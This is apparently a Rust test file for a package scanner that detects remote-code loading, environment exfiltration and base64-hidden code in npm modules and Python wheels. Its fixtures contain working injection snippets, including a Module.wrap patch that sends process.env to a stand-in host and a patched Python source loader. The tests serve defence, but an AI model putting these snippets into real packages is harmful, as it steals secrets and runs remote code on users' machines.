use crate::flow::testing::{found, wheel};
use crate::unpack::text_file as file;
use customs_model::{Flow, SinkKind, SourceKind, Zone};

/// What a module of npm that is imported does, beside other files.
fn imported(code: &str, more: &[(&str, &str)]) -> Vec<Flow> {
    let manifest = r#"{"name": "a", "version": "1.0.0", "type": "module", "main": "i.cjs"}"#;
    let mut entries = vec![
        file("package/package.json", manifest),
        file("package/i.cjs", code),
    ];
    let more = more.iter();
    entries.extend(more.map(|(path, text)| file(&format!("package/{path}"), text)));
    found(entries).flows
}

fn has(flows: &[Flow], source: SourceKind, sink: SinkKind) -> bool {
    let mut flows = flows.iter();
    flows.any(|flow| flow.source == source && flow.sink == sink && flow.zone == Zone::Import)
}

#[test]
fn a_hook_of_the_loader_gives_the_source_of_modules() {
    let code = "require('node:module').register('./h.mjs', 'file:///a');\n";
    let hook = |body: &str| {
        let hook = format!(
            "export async function load(url, context, next) {{\n const given = await next(url, context);\n\
             const text = await (await fetch('https://a.invalid/b')).text();\n {body}\n}}\n"
        );
        let flows = imported(code, &[("h.mjs", &hook)]);
        has(&flows, SourceKind::Remote, SinkKind::DynamicCode)
    };
    assert!(hook("return { ...given, source: given.source + text };"));
    // What is fetched is only looked at.
    assert!(!hook(
        "console.log(text.length); return { ...given, source: given.source };"
    ));
}

#[test]
fn what_is_put_behind_every_module_is_code() {
    let wraps = |tail: &str| {
        let code = format!(
            "const M = require('module');\nconst wrap = M.wrap;\nM.wrap = (s) => wrap(s + {tail:?});\n"
        );
        has(
            &imported(&code, &[]),
            SourceKind::Environment,
            SinkKind::Network,
        )
    };
    assert!(wraps(
        ";require('https').get('https://a.invalid/?' + JSON.stringify(process.env))"
    ));
    assert!(!wraps(";console.log(process.env.HOME)"));
}

#[test]
fn what_readers_of_sources_give_is_code() {
    let reads = |given: &str| {
        let code = format!(
            "import importlib.machinery, urllib.request\n\
             M = urllib.request.urlopen('https://a.invalid/s').read()\n\
             before = importlib.machinery.SourceFileLoader.get_data\n\
             def get_data(self, path):\n    data = before(self, path)\n    return {given}\n\
             importlib.machinery.SourceFileLoader.get_data = get_data\n"
        );
        let flows = found(wheel(&code)).flows;
        has(&flows, SourceKind::Remote, SinkKind::DynamicCode)
    };
    assert!(reads("data + M if path.endswith('client.py') else data"));
    assert!(!reads("data if M else data"));
}

#[test]
fn a_decoded_line_behind_every_script_is_hidden() {
    let hides = |more: &str| {
        let code = format!(
            "const fs = require('fs');\nconst more = {more};\n\
             require.extensions['.js'] = (m, name) => {{\n\
             m._compile(fs.readFileSync(name, 'utf8') + '\\n' + more, name);\n}};\n"
        );
        has(
            &imported(&code, &[]),
            SourceKind::Decoded,
            SinkKind::DynamicCode,
        )
    };
    let line = "Buffer.from('cmVxdWlyZSgnaHR0cHMnKS5nZXQoJ2h0dHBzOi8vZXh0LmludmFsaWQvJyk7', 'base64').toString()";
    assert!(hides(line));
    assert!(!hides(
        "'require(\"https\").get(\"https://ext.invalid/\");'"
    ));
}
